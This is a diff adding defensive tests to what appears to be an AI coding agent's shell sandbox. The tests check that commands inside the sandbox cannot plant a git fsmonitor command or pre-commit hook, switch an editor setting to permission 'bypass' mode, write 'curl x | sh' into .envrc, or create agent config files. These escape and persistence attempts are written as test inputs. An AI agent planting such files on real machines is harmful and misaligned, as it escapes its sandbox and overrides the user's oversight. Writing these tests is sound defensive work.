@@ -320,3 +320,72 @@ def test_real_server_keys_not_readable_without_sandbox(workspace: Path, home: Pa
     assert "not sandboxed: the sandbox is off" in out
     assert SECRET not in out
     assert "OPENAI_API_KEY=\n" in out  # the name is visible in /proc, its value is gone
+
+
+def _git(workspace: Path, *args: str) -> str:
+    return subprocess.run(["git", *args], cwd=workspace, capture_output=True, text=True,
+                          check=True, env={**os.environ, "GIT_CONFIG_NOSYSTEM": "1"}).stdout
+
+
+async def test_git_config_and_hooks_are_read_only_in_the_box(ctx: ToolContext, workspace: Path,
+                                                             tmp_path: Path) -> None:
+    """The plant the issue found: fsmonitor set inside the box, run by the user's own
+    ``git status`` later. Inside, .git is read-only; git still reads the repository."""
+    _git(workspace, "init", "-q")
+    (workspace / "a.txt").write_text("a\n")
+    config = (workspace / ".git" / "config").read_bytes()
+    escaped = tmp_path / "ESCAPED"
+    out = await run(ctx, f"git config core.fsmonitor 'touch {escaped}'; echo rc=$?; "
+                         "echo 'touch HOOKED' > .git/hooks/pre-commit; echo rc=$?; "
+                         "git config --file .git/config core.hooksPath /tmp 2>&1; "
+                         "mv .git .git-away 2>&1; echo > .git/commondir; echo rc=$?; "
+                         "git status --short; echo fine > a.txt")
+    assert out.data["sandboxed"] is True, out.text
+    assert out.text.count("rc=0") == 0, out.text
+    assert "?? a.txt" in out.text  # git reads the repository in the box
+    assert (workspace / "a.txt").read_text() == "fine\n"  # the workspace is writable
+    assert (workspace / ".git" / "config").read_bytes() == config
+    assert not (workspace / ".git" / "hooks" / "pre-commit").exists()
+    assert not (workspace / ".git" / "commondir").exists()
+    _git(workspace, "status")  # the user's own git, outside the box
+    assert not escaped.exists()
+
+
+async def test_control_files_are_read_only_and_missing_ones_cannot_be_made(
+        ctx: ToolContext, workspace: Path) -> None:
+    (workspace / ".vscode").mkdir()
+    (workspace / ".vscode" / "settings.json").write_text("{}\n")
+    (workspace / ".mcp.json").write_text('{"mcpServers": {}}\n')
+    bypass = '{"openprogram.permissionMode": "bypass"}'
+    out = await run(ctx, f"echo '{bypass}' > .vscode/settings.json; echo rc=$?; "
+                         "echo '{}' > .vscode/tasks.json; echo rc=$?; "
+                         "rm -f .mcp.json; echo rc=$?; mv .vscode v2; echo rc=$?; "
+                         "echo 'curl x | sh' > .envrc; echo rc=$?; "
+                         "mkdir -p .claude/agents; echo rc=$?; "
+                         "echo 'os.execute(1)' > .nvim.lua; echo rc=$?; "
+                         "git init -q; echo rc=$?; echo ok > fine.txt")
+    assert out.data["sandboxed"] is True, out.text
+    assert out.text.count("rc=0") == 0, out.text
+    assert (workspace / ".vscode" / "settings.json").read_text() == "{}\n"
+    assert not (workspace / ".vscode" / "tasks.json").exists()
+    assert (workspace / ".mcp.json").exists() and (workspace / "fine.txt").exists()
+    # the placeholders bwrap made for the missing ones are gone again: nothing left behind
+    left = sorted(p.name for p in workspace.iterdir())
+    assert left == [".mcp.json", ".vscode", "fine.txt"], left
+
+
+async def test_placeholders_stay_while_any_command_uses_them(ctx: ToolContext,
+                                                              workspace: Path) -> None:
+    """Two commands at once: the first one's end must not remove the mount point the second
+    still stands on (an unlinked mount point would let it create the file)."""
+    slow = asyncio.create_task(run(ctx, "sleep 1.5; echo planted > .envrc; echo rc=$?"))
+    for _ in range(100):  # bounded: until the first sandbox has made its mount point
+        if (workspace / ".envrc").exists():
+            break
+        await asyncio.sleep(0.05)
+    quick = await run(ctx, "true")
+    assert quick.data["sandboxed"] is True
+    assert (workspace / ".envrc").exists()  # still the slow one's placeholder
+    out = await slow
+    assert "rc=0" not in out.text, out.text
+    assert not (workspace / ".envrc").exists()
